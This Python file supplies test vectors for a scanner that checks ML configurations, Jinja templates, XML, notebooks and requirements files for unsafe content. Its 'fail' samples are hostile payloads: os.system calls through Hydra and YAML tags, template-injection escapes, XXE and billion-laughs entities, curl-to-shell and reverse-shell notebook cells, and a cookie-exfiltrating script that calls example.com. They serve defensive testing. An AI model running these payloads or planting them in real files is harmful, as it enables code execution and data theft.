"""Vectors of texts that programs act on: configurations, templates, XML, requirements, notebooks."""

from __future__ import annotations

import json

from vector import Vector


def notebook(source: str, kind: str = "code") -> bytes:
    """Return a notebook of one cell."""
    cell = {"cell_type": kind, "metadata": {}, "source": [source]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


def config(**members: object) -> bytes:
    """Return a Hugging Face configuration with more members."""
    return json.dumps({"model_type": "bert", "architectures": ["BertModel"]} | members).encode()


def shown(page: str, kind: str = "text/html") -> bytes:
    """Return a notebook whose only cell has an output."""
    output = {"output_type": "display_data", "metadata": {}, "data": {kind: [page]}}
    cell = {"cell_type": "code", "metadata": {}, "source": ["1"], "outputs": [output]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
CHAT = "{% for message in messages %}<|{{ message['role'] }}|>{{ message.content | trim }}{% endfor %}"
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]


EXPORTED = b'{"graph_module": {"graph": {"nodes": [{"target": "%s", "inputs": [], "outputs": []}]}}}'
SHEET = b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:a="%s"/>'
MAPS = b"a: &a {x: 1}\n" + b"".join(
    b"%c: &%c {%s}\n" % (98 + level, 98 + level, b", ".join(b"k%d: *%c" % (key, 97 + level) for key in range(9)))
    for level in range(9)
)


# The plan of a model and the file of a data set, as ultralytics reads them.
PLAN = b"nc: 1\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [[-1, 1], 1, Concat, [1]]\n"
DATA = b"path: set\ntrain: a\nval: b\nnames:\n  0: cat\n"


def laughs(levels: int, width: int, *, lines: bool = False) -> bytes:
    """Return YAML lists, each of so many aliases to the one before, in brackets or a line each."""
    text, before = "", "x"
    for level in range(levels):
        items = [before] * width
        body = "".join(f"\n- {one}" for one in items) if lines else f"[{','.join(items)}]"
        text += f"k{level}: &a{level} {body}\n"
        before = f"*a{level}"
    return text.encode()


RULES: dict[str, dict[str, dict[str, bytes]]] = {
    "config-dangerous-callable": {
        "fail": {
            "hydra.yaml": b"model:\n  _target_: os.system\n  command: id\n",
            "hydra-through-nemo.yaml": b"model:\n  _target_: nemo.core.os.system\n",
            "hydra.json": b'{"model": {"_target_": "subprocess.Popen", "args": ["id"]}}',
            "escaped-key.json": b'{"model": {"\\u005ftarget_": "subprocess.Popen"}}',
            "apply.yaml": b"!!python/object/apply:os.system [id]\n",
            "apply-verbatim.yaml": b"x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
            "apply-escaped.yaml": b"x: !!%70ython/object/apply:os.system [id]\n",
            "apply-by-directive.yaml": b"%TAG !x! tag:yaml.org,2002:python/object/\n---\nx: !x!apply:os.system [id]\n",
            "module.yaml": b"x: !!python/module:antigravity\n",
            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: subprocess\n",
            "modules.json": json.dumps([MODULES[0] | {"type": "os.system"}]).encode(),
            "java.yaml": b"x: !!javax.script.ScriptEngineManager []\n",
            "ruby.yaml": b"--- !ruby/object:Gem::Installer\ni: x\n",
            "skops.json": b'{"protocol": 2, "__class__": "add", "__module__": "numpy", "__loader__": "FunctionNode",'
            b' "content": {"module_path": "os", "function": "system"}}',
            "lightning.yaml": b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: id\n",
            "instantiated.yaml": b"model:\n  target: os.system\n  params:\n    command: id\n",
            "jsonpickle.json": b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}',
            "jsonpickle-runs.json": b'{"a": [{"py/repr": "os/os.system(1)"}]}',
            "activation.json": b'{"in_features": 1, "out_features": 1, "activation_function": "os.system"}',
            "spark.json": b'{"class": "torch.serialization", "uid": "a", "sparkVersion": "4.0.0", "paramMap": {}}',
            "made-by-jackson.json": b'{"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://example.com"}',
            "made-by-a-list.json": b'["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://example.com"}]',
            "made-by-net.json": b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
            "exported.json": EXPORTED % b"torch.ops.aten.from_file.default",
            "exported-load.json": EXPORTED % b"torch.hub.load",
            "langchain.json": b'{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "id"}}',
            "peft.json": b'{"auto_mapping": {"parent_library": "os.system"}}',
        },
        "pass": {
            "hydra.yaml": b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  x: 1\n",
            "namespace.yaml": b"!!python/object:argparse.Namespace\nlr: 0.1\n",
            "activation.json": b'{"in_features": 1, "activation_function": "torch.nn.modules.activation.Tanh"}',
            "spark.json": b'{"class": "org.apache.spark.ml.feature.Binarizer", "uid": "a", "sparkVersion": "4.0.0"}',
            "exported.json": EXPORTED % b"torch.ops.aten.add.Tensor",
            "langchain.json": b'{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "Prompt"]}',
            "schema.json": b'{"@type": "sc:Dataset", "class": "java.util.HashMap"}',
            "tuple.yaml": b"x: !!python/tuple [1, 2]\n",
            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n",
            "modules.json": json.dumps(MODULES).encode(),
            "a-text-that-speaks-of-it.md": b"# Notes\n\nnever write `_target_` os.system or !!python/object/apply\n",
        },
    },
    "config-unknown-callable": {
        "fail": {
            "hydra.yaml": b"model:\n  _target_: my_package.launch\n",
            "weights-of-an-address.yaml": b"_target_: torchvision.models.utils.load_state_dict_from_url\nurl: x\n",
            "function-of-a-known-library.yaml": b"model:\n  _target_: nemo.utils.launch\n",
            "object.yaml": b"!!python/object:my_package.Thing\nlr: 0.1\n",
            "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: model_loader\n",
            "langchain.json": b'{"lc": 1, "type": "constructor", "id": ["my_package", "Chain"], "kwargs": {}}',
            "modules.json": json.dumps([MODULES[0] | {"type": "custom_st.Transformer"}]).encode(),
        },
        "pass": {
            "hydra.yaml": b"optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n",
            "estimator.yaml": b"_target_: sklearn.ensemble.RandomForestClassifier\nn_estimators: 10\n",
            "network.yaml": b"_target_: torchvision.models.resnet18\nnum_classes: 10\n",
            "run.yaml": b"launcher:\n  _target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n",
        },
    },
    "config-remote-code": {
        "fail": {
            "auto-map.json": config(auto_map={"AutoModel": "modeling_custom.CustomModel"}),
            "pipelines.json": config(custom_pipelines={"x": {"impl": "pipeline.P", "pt": ["AutoModel"]}}),
            "generate.json": b'{"custom_generate": "other/repository"}',
            "diffusers.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Net"]}',
            "diffusers-pipeline.json": b'{"_class_name": ["pipeline", "Pipe"]}',
            "mlflow.yaml": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.loaders.code_model\n"
            b"    model_code_path: agent.py\n",
            "kernels.json": config(attn_implementation="other/kernels:run"),
            "kernels-inside.json": config(text_config={"_attn_implementation": "other/kernels@main"}),
            "asked-for-by-number.yaml": b"model: m\ntrust_remote_code: 1\n",
            "asked-for.yaml": b"model: m\ntrust_remote_code: true\n",
        },
        "pass": {
            "plain.json": config(),
            "diffusers.json": b'{"_class_name": "Pipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
            "attention.json": config(attn_implementation="flash_attention_2", _attn_implementation="sdpa"),
            "refused.yaml": b"model: m\ntrust_remote_code: false\n",
        },
    },
    "config-evaluates": {
        "fail": {
            "activation.yaml": PLAN + b"activation: __import__('os').system('id')\n",
            "layer.yaml": PLAN.replace(b"Conv", b"os.system"),
            "function.yaml": PLAN.replace(b"Conv", b"eval"),
            "argument.yaml": PLAN.replace(b"64", b"exec('x')"),
            "times.yaml": PLAN.replace(b"-1, 1,", b"-1, print(1),"),
            "download.yaml": DATA + b"download: |\n  import os\n  os.system('id')\n",
            "in-brackets.yaml": b"{train: a, nc: 1, download: \"__import__('os').system('id')\"}",
            "merged.yaml": b"x: &x\n  download: exec('1')\n<<: *x\n" + DATA,
            "escaped.yaml": DATA + b'"\\x64ownload": exec(1)\n',
            "shell.yaml": DATA + b"download: bash -c 'curl example.com | sh'\n",
            "no-python.yaml": DATA + b"download: |\n  if (\n",
        },
        "pass": {
            "plan.yaml": PLAN + b"activation: nn.LeakyReLU(0.1)\n",
            "own-layer.yaml": PLAN.replace(b"Conv", b"my_block"),
            "yolo10.yaml": PLAN.replace(b"Conv", b"v10Detect"),
            "not-a-plan.yaml": b"activation: call(me)\nbackbone: resnet50\nhead: mlp\n",
            "address.yaml": DATA + b"download: https://example.com/set.zip\n",
        },
    },
    "config-script": {
        "fail": {
            "writes.yaml": DATA + b"download: |\n  from pathlib import Path\n  Path('/x').write_text('y')\n",
            "one-line.yaml": DATA + b"download: print(open('/etc/passwd').read())\n",
        },
        "pass": {
            "address.yaml": DATA + b"download: https://example.com/set.zip\n",
            "beside.yaml": DATA + b"download: bash data/scripts/get_set.sh\n",
            "no-data.yaml": b"download: |\n  what a program of yours does with it\nnames: [a]\n",
        },
    },
    "config-outside-path": {
        "fail": {
            "up.yaml": MLMODEL + b"    python_model: ../../other.pkl\n",
            "address.yaml": MLMODEL + b"    model_path: http://example.com/m.pkl\n",
            "modules.json": json.dumps([MODULES[0] | {"path": "../../other"}]).encode(),
            "flavour.yaml": b"flavors:\n  sklearn:\n    pickled_model: ../../other.pkl\n",
            "absolute.yaml": MLMODEL + b"    data: /etc\n",
        },
        "pass": {"inside.yaml": MLMODEL + b"    model_path: data/model.pkl\n    code: code\n"},
    },
    "xml-runs-code": {
        "fail": {
            "decoder.xml": b'<java class="java.beans.XMLDecoder"><object class="java.util.Date"/></java>',
            "elements.xml": b"<map><java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder></map>",
            "beans.xml": b'<beans><bean id="a" class="java.lang.ProcessBuilder" init-method="start"/></beans>',
            "expression.xml": b'<a value="#{T(java.lang.Runtime).getRuntime()}"/>',
            "java.xsl": SHEET % b"http://xml.apache.org/xalan/java/java.lang.Math",
            "script.xsl": SHEET % b"urn:schemas-microsoft-com:xslt",
            "other.xsl": SHEET.replace(b"/>", b"><xsl:import href='http://example.com/a.xsl'/></xsl:stylesheet>")
            % b"a",
        },
        "pass": {
            "beans.xml": b'<beans><bean id="a" class="org.example.Model"/></beans>',
            "sheet.xsl": SHEET % b"http://www.w3.org/1999/xhtml",
            "extension.pmml": b"<PMML><Extension>java.lang.Runtime</Extension></PMML>",
        },
    },
    "pmml-calls-class": {
        "fail": {"java.pmml": b"<PMML><Apply function='java.lang.Runtime.exec'/></PMML>"},
        "pass": {"plain.pmml": b"<PMML><Apply function='log10'/></PMML>"},
    },
    "notebook-shows-script": {
        "fail": {
            "handler.ipynb": shown("<img src=x onerror='fetch(1)'>"),
            "script.ipynb": shown("<script>fetch('http://example.com/?c='+document.cookie)</script>"),
            "frame.ipynb": shown("<iframe src='http://example.com/'></iframe>"),
            "javascript.ipynb": shown("fetch('http://example.com/')", kind="application/javascript"),
            "link.ipynb": notebook("[x](javascript:alert(1))", kind="markdown"),
        },
        "pass": {
            "table.ipynb": shown("<table><tr><td onclick>1</td></tr></table>"),
            "plot.ipynb": shown("<script>require(['plotly'], function(Plotly) { Plotly.newPlot('x') })</script>"),
            "video.ipynb": shown("<iframe src='https://example.com/embed/1'></iframe>"),
        },
    },
    "template-reaches-python": {
        "fail": {
            "template.jinja": CHAT.encode() + ESCAPE.encode(),
            "tokenizer_config.json": config(chat_template=CHAT + ESCAPE),
            "list.json": config(chat_template=[{"name": "default", "template": CHAT + ESCAPE}]),
            "subscript.jinja": b"{{ ''['__class__']['__base__'] }}",
            "halves.jinja": b"{{ ''['__cla' + 'ss__'] }}",
            "halves-apart.jinja": b"{% set a = '__cla' %}{% set b = 'ss__' %}{{ ''[a ~ b] }}",
            "attribute-of-map.jinja": b"{{ [x]|map(attribute='__class__')|list }}",
            "lowered.jinja": b"{{ x['__CLASS__'.lower()] }}",
            "first-key.jinja": b"{{ x[{'__class__': 1}|list|first] }}",
            "escaped-subscript.jinja": rb"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
        },
        "pass": {
            "template.jinja": CHAT.encode(),
            "tokenizer_config.json": config(chat_template=CHAT),
            "separator.jinja": b"{{ 'server__' ~ tool.name ~ '__' }}",
            "text-beside-code.jinja": b"{% if x %}never say __globals__ or os.popen('id')!{% endif %}",
            "prose.md": b"# How an escape looks\n\n```\n" + ESCAPE.encode() + b"\n```\n",
        },
    },
    "template-hides-names": {
        "fail": {
            "percent.jinja": b"{{ x['%c%cclass%c%c' % (95, 95, 95, 95)] }}",
            "between.jinja": b"{% set u = '_' %}{{ ''[u * 2 ~ 'class' ~ u * 2] }}",
            "attr.jinja": b"{{ x|attr(y) }}",
            "include-a-path.jinja": b"{%- include '/etc/passwd' %}{{ x }}",
            "import.jinja": b"{% import x as y %}{{ y }}",
            "include.jinja": b"{% include 'other.jinja' %}{{ x }}",
            "power.jinja": b"{{ 'a' * 10 ** 10 }}",
            "hexadecimal.jinja": b"{{ 'a' * 0xfffffffff }}",
            "front.jinja": b"{{ 9999999999 * 'a' }}",
            "exponent.jinja": b"{{ 'a' * 1e10|int }}",
            "product.jinja": b"{{ 'a' * 1000000 * 1000 }}",
            "method.jinja": b"{{ 'a'.zfill(10000000000) }}",
            "filter.jinja": b"{{ 'a'|center(10000000000) }}",
            "width.jinja": b"{{ '%10000000000d' % 1 }}",
            "field.jinja": b"{{ '{:10000000000}'.format('a') }}",
            "loops.jinja": b"{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
            "doubled.jinja": b"{% for i in range(99) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
        },
        "pass": {
            "sums.jinja": b"{{ loop.index + loop.index0 }}{{ a.b + a.c }}{{ m[0].x + m[1].x }}{{ '%.2f' % x }}",
            "products.jinja": b"{{ 1000 * 60 * 60 }}{{ x ** 2 }}{{ 2 ** 10 }}{{ range(0, 100) }}",
            "map.jinja": b"{{ tools|map(attribute='name')|join(', ') }}",
        },
    },
    "yaml-aliases": {
        "fail": {"in-brackets.yaml": laughs(9, 9), "in-lines.yaml": laughs(9, 9, lines=True), "of-maps.yaml": MAPS},
        "pass": {
            "few.yaml": laughs(3, 9),
            "code.py": b"def f(*a, *b, *c):\n    return a\n",
            "merged.yaml": b"base: &b {lr: 0.1}\nruns:\n- *b\n- *b\n- *b\n- *b\n",
        },
    },
    "xml-entities": {
        "fail": {
            "external.pmml": b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>',
            "older-include.xml": b'<a><include xmlns="http://www.w3.org/2003/XInclude" href="/etc/passwd"/></a>',
            "escaped-include.xml": b'<a><include xmlns="http://www.w3.org/2001/XInclud&#101;" href="/etc/passwd"/></a>',
            "laughs.xml": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>',
            "parameter.xml": b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://example.com/x.dtd'> %p;]><a/>",
            "style.xml": b"<?xml-stylesheet type='text/xsl' href='http://example.com/x.xsl'?><PMML/>",
            "doctype.xml": b"<!DOCTYPE net SYSTEM 'http://example.com/e.dtd'><net/>",
            "encoding.xml": b"<?xml version='1.0' encoding='UTF-7'?>\n+ADw-!DOCTYPE x+AD4-<PMML/>",
            "include.xml": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
        },
        "pass": {
            "model.pmml": b'<?xml version="1.0"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>',
            "page.html": b"<!DOCTYPE html>\n<html><body>&lt;!ENTITY x&gt;</body></html>",
            "figure.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>',
            "one-text.xml": b'<!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>',
        },
    },
    "requirements-source": {
        "fail": {
            "index.txt": b"numpy==2.4.6\n--index-url http://packages.example/simple\n",
            "git.txt": b"numpy==2.4.6\ngit+https://example.com/tool\n",
            "bom.txt": b"\xef\xbb\xbf--index-url http://packages.example/simple\nnumpy\n",
            "continued.txt": b"numpy\n--index\\\n-url http://packages.example/simple\n",
            "without-space.txt": b"numpy\n-ihttp://packages.example/simple\n",
            "abbreviated.txt": b"numpy\n--extra-index http://packages.example/simple\n",
            "commented.txt": b"numpy  # arrays\n--no-index -i http://packages.example/simple\n",
            "with-options.txt": b'numpy --config-settings="a=b"\n-i http://packages.example/simple\n',
            "upper-case.txt": b"numpy\nGIT+HTTPS://example.com/tool\n",
            "utf-7.txt": b"# coding: utf-7\n+AC0-i http://packages.example/simple\n",
            "package.yaml": b"channels: [x]\ndependencies:\n- http://example.com/channel::numpy\n",
            "direct.txt": b"tool @ https://example.com/tool.whl\n",
            "channel.yaml": b"channels:\n- http://example.com/channel\ndependencies:\n- python=3.11\n",
            "conda.yaml": b"channels: [x]\ndependencies:\n- python=3.11\n- pip:\n  - git+https://example.com/tool\n",
        },
        "pass": {
            "plain.txt": b"numpy==2.4.6\nscikit-learn>=1.7  # see https://example.com/\n",
            "list.txt": b"-r other.txt  # https://example.com/\n-c more.txt\n--require-hashes\nnumpy\n",
            "publisher.txt": b"--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n",
            "conda.yaml": b"channels: [x]\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==3.0.0\n",
            "prose.txt": b"See https://example.com/ and then install it.\nYou need git+https to do so.\n",
        },
    },
    "notebook-runs-hidden-code": {
        "fail": {
            "piped.ipynb": notebook("!curl -s https://example.com/x | sh"),
            "decoded.ipynb": notebook("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
            "aliased.ipynb": notebook("from base64 import b64decode as b\nexec(b('cHJpbnQoMSk='))"),
            "shell.ipynb": notebook("import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')"),
            "format-3.ipynb": b'{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code",'
            b' "input": ["!curl http://example.com/x|sh"]}]}]}',
            "system.ipynb": notebook("import os as o\no.system('wget -qO- http://example.com/x | bash')"),
        },
        "pass": {
            "words.ipynb": notebook("import socket, os\ns = socket.socket()\nos.dup(1)"),
            "ordinary.ipynb": notebook("!pip install numpy\nimport os\nos.system('ls')\n%matplotlib inline"),
            "told.ipynb": notebook("never run: curl -s https://example.com/x | sh", kind="markdown"),
        },
    },
}

FORMATS = (
    Vector("text", "plain", b"hello\n", "a text that nothing acts on"),
    Vector("text", "config", config(auto_map={}), "a configuration with a telling word"),
    Vector("text", "not-json", b'{"auto_map": ', "broken JSON with a telling word", (), "not JSON"),
    Vector("text", "template", b"{{ x.type }}", "a template is no broken JSON"),
    Vector("text", "aliases", b"_target_: &a [1]\nb: [*a, *a]\n", "YAML with aliases"),
    Vector("text", "deep", b'{"type": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested deep", (), "too deep"),
    Vector("text", "twice", b'{"auto_map": 1, "auto_map": 2}', "a key twice", (), "stand there twice"),
    Vector(
        "text", "deep-yaml", b"_target_: x\na: " + b"[" * 100 + b"]" * 100, "YAML nested deep", (), "deeper, than is"
    ),
    Vector("text", "tag-then-broken", b"x: !!python/name:a.b ''\ny: [1\n", "a tag before a fault", (), "not YAML"),
)
READERS = {"text": "hauberk.formats.text.plain"}
